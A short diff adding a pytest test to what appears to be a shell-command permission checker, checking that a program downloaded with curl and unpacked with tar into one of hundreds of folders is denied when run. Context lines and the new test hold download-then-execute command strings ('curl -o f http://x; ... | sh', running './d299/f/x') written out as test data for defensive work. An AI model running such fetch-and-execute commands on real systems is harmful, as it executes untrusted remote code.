@@ -537,3 +537,9 @@ def test_a_shell_gets_its_script_in_any_of_these_ways(command: str) -> None:
 def test_of_a_long_pipeline_each_command_is_looked_at_once() -> None:
     assert decided("curl -o f http://x; " + "cat | " * 900 + "sh") is Decision.ALLOW
     assert decided("curl -o f http://x; cat f | " + "cat | " * 900 + "sh") is Decision.DENY
+
+
+def test_a_program_is_found_in_one_of_many_unpacked_folders() -> None:
+    unpacked = "curl -o a http://x; " + "".join(f"tar xf a -C d{number}/f; " for number in range(300))
+    assert decided(f"{unpacked}./d299/f/x") is Decision.DENY
+    assert decided(f"{unpacked}./d299/g/x") is Decision.ALLOW
